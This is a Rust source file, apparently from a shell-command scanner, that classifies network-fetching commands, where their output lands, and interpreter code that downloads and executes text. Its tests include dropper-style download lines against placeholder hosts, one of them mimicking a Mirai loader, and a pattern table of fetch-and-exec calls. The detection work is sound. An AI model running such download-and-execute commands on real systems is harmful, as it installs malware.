//! Programs that fetch, and where they put what they fetched.

use super::commands::{Commands, Role, Words};
use super::embedded::text_runs;
use super::options::{arguments, has_flag, option};
use super::runs::is_code;
use super::text::{basename, has, is_one_of, one_of};

/// Where a command puts what it brings.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Product<'a> {
    /// To its output, where a pipe takes it.
    Output,
    /// To a file of this name.
    File(&'a [u8]),
}

/// What a command fetches from the network, if it does.
#[must_use]
pub fn fetch(commands: &Commands, command: u16) -> Option<Product<'_>> {
    let own = || arguments(commands, command);
    let name = commands.name(command);
    let is = one_of(name);
    let fetched = match name {
        _ if is(b"wget uclient-fetch") => match option(own(), b'O', b"--output-document", WGET_VALUES) {
            Some(file) => to(file),
            None => Product::File(remote_name(own(), WGET_VALUES)?),
        },
        _ if is(b"curl") => match option(own(), b'o', b"--output", CURL_VALUES) {
            Some(file) => to(file),
            None if has_flag(own(), b'O', b"--remote-name", CURL_VALUES) => {
                Product::File(remote_name(own(), CURL_VALUES)?)
            }
            None => Product::Output,
        },
        _ if is(b"tftp") => match option(own(), b'l', b"--local", b"rb") {
            Some(file) => to(file),
            None => Product::File(option(own(), b'r', b"--remote", b"lb").or_else(|| own().last())?),
        },
        // ftpget HOST LOCAL REMOTE, or HOST REMOTE (BusyBox, networking/ftpgetput.c).
        _ if is(b"ftpget") => {
            let (mut local, mut remote) = (&b""[..], &b""[..]);
            for word in own() {
                local = core::mem::replace(&mut remote, word);
            }
            to(if host_like(local) { remote } else { local })
        }
        _ if is(b"nc ncat netcat lynx ssl_client dig") => Product::Output,
        b"openssl" if own().next() == Some(b"s_client") => Product::Output,
        b"socat" if own().any(|word| has(word, b"tcp") || has(word, b"ssl")) => Product::Output,
        _ => return None,
    };
    Some(redirected(commands, command, fetched))
}

/// The same, if the output goes to a file.
pub(super) fn redirected<'a>(commands: &'a Commands, command: u16, product: Product<'a>) -> Product<'a> {
    match (product, commands.words(command, Role::Output).next()) {
        (Product::Output, Some(file)) => Product::File(file),
        _ => product,
    }
}

/// Words of the text of an interpreter's `-c` or `-e`: what fetches, and what runs text.
const CODE: [(&[u8], &[u8]); 6] = [
    (b"urlopen", b"exec("),
    (b"requests.get", b"exec("),
    (b"urlretrieve", b"system("),
    (b"LWP", b"eval"),
    (b"file_get_contents(\"http", b"eval"),
    (b"file_get_contents('http", b"eval"),
];

/// Whether a command gives an interpreter other than a shell a text that fetches something and runs it.
#[must_use]
pub fn is_fetching_code(commands: &Commands, command: u16) -> bool {
    let other = is_one_of(commands.name(command), b"python python3 perl lua php ucode awk gawk mawk ruby");
    is_code(commands, command, &CODE) || (other && arguments(commands, command).any(|word| text_runs(word).1))
}

/// Letters of short options that take a value, which may hold any other letter (wget(1), BusyBox networking/wget.c;
/// curl(1)).
const WGET_VALUES: &[u8] = b"aoeiBtTwQPUYARDIXl";
const CURL_VALUES: &[u8] = b"AbcCdDeEFhHKmPQrtTuUwxXyYz";

/// What a file name means to a command that writes there.
pub(super) fn to(file: &[u8]) -> Product<'_> {
    let is = one_of(file);
    match file {
        _ if is(b"- /dev/stdout /dev/fd/1 /proc/self/fd/1") => Product::Output,
        _ => Product::File(file),
    }
}

/// Nothing, or digits and dots only: the host of `ftpget`, not a file.
fn host_like(word: &[u8]) -> bool {
    word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
}

/// The file name that a URL gives: what follows the last slash, without a query. `values` are the letters of options
/// that take a value, which is no URL: `-P /tmp`.
fn remote_name<'a>(words: Words<'a>, values: &[u8]) -> Option<&'a [u8]> {
    let (mut url, mut value) = (None, false);
    for word in words {
        let dashed = word.first() == Some(&b'-');
        if !dashed && !value {
            url = Some(word);
        }
        value = matches!(word, [b'-', letter] if values.contains(letter));
    }
    let name = basename(url?).split(|b| *b == b'?').next()?;
    Some(if name.is_empty() { b"index.html" } else { name })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetchers_and_where_they_write() {
        for (text, expected) in [
            (&b"wget http://h/bins.sh"[..], Some(Product::File(b"bins.sh"))),
            (b"wget -q -O - http://h/x", Some(Product::Output)),
            (b"busybox wget http://h/x -qO-", Some(Product::Output)),
            (b"wget -O/tmp/x http://h/y", Some(Product::File(b"/tmp/x"))),
            (b"wget --output-document=/tmp/x http://h/y", Some(Product::File(b"/tmp/x"))),
            (b"curl -fsSL http://h/x", Some(Product::Output)),
            (b"curl -fsSLo /tmp/x http://h/x", Some(Product::File(b"/tmp/x"))),
            (b"curl -O http://h/x?y=1", Some(Product::File(b"x"))),
            (b"curl http://h/x > $F", Some(Product::File(b"$F"))),
            (b"tftp -g -l dvrHelper -r mirai.mips 192.0.2.1", Some(Product::File(b"dvrHelper"))),
            (b"tftp 192.0.2.1 -c get x", Some(Product::File(b"x"))),
            (b"ftpget -v -u a -p b -P 21 192.0.2.1 local.sh remote.sh", Some(Product::File(b"local.sh"))),
            (b"ftpget 192.0.2.1 remote.sh", Some(Product::File(b"remote.sh"))),
            (b"wget -UOpera -O- http://h/x", Some(Product::Output)),
            (b"wget --output-doc=- http://h/x", Some(Product::Output)),
            (b"curl -XPOST -Afoo http://h/x", Some(Product::Output)),
            (b"timeout -s KILL 5 wget -O /dev/stdout http://h/x", Some(Product::Output)),
            (b"wget http://h/x -P /tmp", Some(Product::File(b"x"))),
            (b"openssl s_client -connect h:443", Some(Product::Output)),
            (b"openssl x509 -in x", None),
            (b"socat - TCP:h:1", Some(Product::Output)),
            (b"sh x", None),
        ] {
            let mut commands = Commands::new();
            commands.parse(text);
            assert_eq!(fetch(&commands, 0), expected, "{}", String::from_utf8_lossy(text));
        }
    }
}
